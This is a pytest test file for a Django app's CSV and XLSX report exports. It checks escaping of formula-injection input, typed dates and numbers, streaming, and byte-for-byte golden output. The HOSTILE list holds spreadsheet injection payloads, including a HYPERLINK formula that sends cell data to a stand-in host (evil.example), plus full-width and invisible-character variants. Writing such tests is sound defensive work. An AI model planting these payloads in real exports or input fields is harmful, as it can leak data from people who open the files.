"""Exports hold data, never formulas; dates and numbers stay dates and numbers; the XLSX
is streamed."""

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl.utils.escape import unescape

from accounts.models import Person, User
from audit.models import AuditEvent
from mfa.models import LoginThrottle, Passkey, RecoveryCode
from reports import streams, xlsx
from reports.exports import inert
from tests.helpers import PASSWORD, first_sheet, link

HOSTILE = [
    '=1+2&"',
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+31 6 1234",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTab",
    "\rCR",
    "＝1+2",  # full-width forms: NFKC folds them to = + - @
    "＋31 6 1234",
    "－2+3",
    "＠SUM(A1:A2)",
    "﹦1+2",  # small form
    "\u200b=1+2",  # zero-width space
    "\u200d+1",  # zero-width joiner
    "\ufeff-2",  # byte order mark
    "\u202e@SUM(A1)",  # right-to-left override
    "\u2066\u200e=1",  # bidi isolate and mark
]
CSV_URL = reverse("reports:export", args=["personen-met-mfa", "csv"])
XLSX_URL = reverse("reports:export", args=["personen-met-mfa", "xlsx"])


@pytest.fixture
def hostile_names(db):
    users = []
    for number, name in enumerate(HOSTILE):
        person = Person.objects.create(first_name="", last_name=name)
        users.append(User.objects.create_user(f"hostile{number}", PASSWORD, person=person))
    link(users[0], timezone.now())
    User.objects.filter(pk=users[0].pk).update(login_count=7)
    return users


def body(response):
    return b"".join(response.streaming_content)


def test_csv_cells_that_would_be_formulas_read_back_as_literal_text(admin_client, hostile_names):
    text = body(admin_client.get(CSV_URL)).decode()
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert {"'" + name for name in HOSTILE} <= {row[0] for row in rows[1:]}
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_inert_guards_only_formula_starts():
    assert [inert(name) for name in HOSTILE] == ["'" + name for name in HOSTILE]
    assert inert("Rob de Wit") == "Rob de Wit" and inert("") == ""
    for harmless in ("Ｒob", "\u200bRob", "\ufeff", "de Wit-Jansen", "Ａ=1", " =1"):
        assert inert(harmless) == harmless, harmless


def test_no_xlsx_cell_is_a_formula_and_dates_and_numbers_stay_typed(admin_client, hostile_names):
    content = body(admin_client.get(XLSX_URL))
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    rows = list(first_sheet(content).iter_rows())
    assert all(cell.data_type != "f" for row in rows for cell in row)
    # the literal names, as string cells (Excel decodes _xHHHH_ itself; openpyxl does not)
    values = {unescape(str(row[0].value)): row for row in rows[1:]}
    assert set(HOSTILE) <= set(values)
    linked = values['=1+2&"']
    assert isinstance(linked[2].value, datetime)  # MFA_aangemaakt: a real date
    assert linked[4].value == 1  # Aantal_apparaten: a real number


def test_xlsx_text_with_control_characters_stays_a_valid_file():
    chunks = xlsx.stream(
        [["a\x01b", "_x0041_", "<&>\r\n"], [1, 2.5, datetime(2026, 11, 26, 9, 30)]],
        sheet_name="Test",
        date_format="d-m-yyyy hh:mm",
    )
    sheet = first_sheet(b"".join(chunks))
    assert [unescape(str(cell.value)) for cell in sheet[1]] == ["a\x01b", "_x0041_", "<&>\r\n"]
    assert [cell.value for cell in sheet[2]] == [1, 2.5, datetime(2026, 11, 26, 9, 30)]


def test_the_xlsx_leaves_in_pieces_before_the_last_row_is_read():
    produced = []

    def rows():
        for number in range(3000):
            produced.append(number)
            yield [f"naam {number}" * 5, number]

    chunks = xlsx.stream(rows(), sheet_name="Test", date_format="d-m-yyyy", flush_every=500)
    first = next(chunk for chunk in chunks if chunk)
    assert first.startswith(b"PK") and len(produced) < 3000
    rest = b"".join(chunks)
    assert first_sheet(first + rest).max_row == 3000


def test_the_xlsx_begins_before_its_first_row_is_read():
    produced = []

    def rows():
        produced.append(1)
        yield ["naam"]

    chunks = xlsx.stream(rows(), sheet_name="Test", date_format="d-m-yyyy")
    first = next(chunks)
    assert first.startswith(b"PK") and not produced
    assert first_sheet(first + b"".join(chunks)).max_row == 1


def test_csv_usernames_that_would_be_formulas_read_back_as_literal_text(admin_client):
    for number, username in enumerate(["@evil", "+31", "-min"]):
        person = Person.objects.create(first_name="Naam", last_name=f"Gebruiker{number}")
        User.objects.create_user(username, PASSWORD, person=person)
    url = reverse("reports:export", args=["systeemgebruikers-en-inlog-stats", "csv"])
    rows = list(csv.reader(io.StringIO(body(admin_client.get(url)).decode()[1:]), delimiter=";"))
    column = rows[0].index("Gebruikersnaam")
    assert {"'@evil", "'+31", "'-min"} <= {row[column] for row in rows[1:]}


# --- Byte for byte ---------------------------------------------------------------

GOLDEN = Path(__file__).parent / "golden"
STATS_SLUG = "systeemgebruikers-en-inlog-stats"
# (report, kind, language, query): each export's bytes are kept in GOLDEN, as they were
# made before the exports were made fast; SQLite and PostgreSQL give the same bytes.
EXPORTS = [
    ("personen-met-mfa", "csv", "nl", {"sort": "Laatste_login"}),
    ("personen-met-mfa", "csv", "en", {"sort": "Laatste_login", "dir": "desc"}),
    (STATS_SLUG, "csv", "nl", {"sort": "Laatste_login"}),
    (STATS_SLUG, "csv", "en", {"sort": "Aantal_inlogmomenten", "dir": "desc", "show": "unlinked"}),
    ("personen-met-mfa", "xlsx", "nl", {"sort": "Laatste_login"}),
    (STATS_SLUG, "xlsx", "en", {"sort": "Laatste_login", "dir": "desc"}),
]
# The parts of an XLSX that hold the data (the zip around them carries the time it was made).
XLSX_PARTS = ("xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml")


@pytest.fixture
def every_kind_of_cell(admin_user, frozen_clock):
    """Users whose cells take every path of the exports: names with quotes, separators,
    line breaks, control characters and formula starts; dates in summer and winter time,
    with seconds and microseconds, and none; devices, a temporary one linked by the
    beheerder, passkeys, recovery codes, failures in and out of the 30 days, a lock."""
    now = frozen_clock
    names = [
        ("Pieter", "", "Willemsen", "pwillemsen"),
        ("Rob", "de", "Wit", "rdewit"),
        ("Zoë", "van 't", "Hoff", "zhoff"),
        ("Anna;Marie", "", 'de "Groot"', "agroot"),
        ("Regel\neen", "", "Twee", "regel"),
        ("", "", "=1+2", "@evil"),
        ("＋31", "", "Breed", "+31"),
        ("\u200b@SUM(A1)", "", "Onzichtbaar", "-min"),
        ("Ctrl\x01", "", "_x0041_ <&>", "ctrl"),
        ("Emoji 🙂", "", "Ølsen", "olsen"),
        ("-2+3", "", "Min", "min"),
        ("Tijdelijk", "", "Toegang", "tijdelijk"),
    ]
    users = []
    for first, infix, last, username in names:
        person = Person.objects.create(first_name=first, infix=infix, last_name=last)
        users.append(User.objects.create_user(username, PASSWORD, person=person))
    moments = [
        datetime(2017, 5, 22, 11, 59, tzinfo=UTC),  # 13:59 in Amsterdam, summer time
        datetime(2026, 1, 3, 0, 5, 7, 250000, tzinfo=UTC),  # winter, single digits
        datetime(2025, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),  # a new year in Amsterdam
        datetime(2026, 10, 25, 1, 30, tzinfo=UTC),  # the hour summer time ends
        datetime(2026, 11, 25, 9, 59, 45, tzinfo=UTC),
    ]
    for number, user in enumerate(users[:6]):
        link(user, moments[number % len(moments)])
    link(users[1], moments[4])  # a second device, changed later
    link(users[11], now - timedelta(hours=1), by=admin_user, expires_at=now + timedelta(days=2))
    link(users[10], now - timedelta(hours=2), by=admin_user)  # temporary without an end
    for number, user in enumerate(users):
        User.objects.filter(pk=user.pk).update(
            login_count=number * 7 % 11,
            last_login=None if number == 4 else moments[number % 5] + timedelta(days=number),
            mfa_reminded_at=moments[(number + 2) % 5] if number % 3 == 0 else None,
            is_active=number != 2,
            is_hidden=number == 3,
        )
    User.objects.filter(pk=admin_user.pk).update(last_login=moments[2], login_count=12)
    Passkey.objects.create(user=users[7], name="Sleutel", credential_id="c7", public_key=b"")
    Passkey.objects.create(user=users[1], name="Sleutel", credential_id="c1", public_key=b"")
    RecoveryCode.objects.bulk_create(
        RecoveryCode(user=users[number], number=n, digest=f"{number}-{n}", created_at=now)
        for number in (0, 1, 5)
        for n in range(1, number + 3)
    )
    AuditEvent.objects.bulk_create(
        AuditEvent(action=AuditEvent.Action.CODE_FAILED, subject=users[number], at=at)
        for number, at in [
            (0, now - timedelta(days=1)),
            (0, now - timedelta(days=29)),
            (0, now - timedelta(days=31)),  # outside the 30 days
            (6, now - timedelta(minutes=5)),
        ]
    )
    LoginThrottle.objects.create(key=users[6].username_canonical, locked_until=now + timedelta(1))
    return users


def export_parts(content, kind):
    if kind == "csv":
        return {"csv": content}
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {part: archive.read(part) for part in XLSX_PARTS}


@pytest.mark.parametrize(("slug", "kind", "language", "query"), EXPORTS)
def test_exports_keep_their_bytes(
    admin_client, every_kind_of_cell, monkeypatch, slug, kind, language, query
):
    """Every export, byte for byte as it was: a faster way of making it may not change a
    byte. The first rows are read like a page and the rest in one pass (both paths run)."""
    monkeypatch.setattr(streams, "EXPORT_FIRST", 5)
    url = reverse("reports:export", args=[slug, kind])
    content = body(admin_client.get(url, query, HTTP_ACCEPT_LANGUAGE=language))
    name = f"{slug}-{language}-{'-'.join(map(str, query.values()))}"
    for part, data in export_parts(content, kind).items():
        assert data == (GOLDEN / f"{name}.{part.replace('/', '-')}").read_bytes(), part
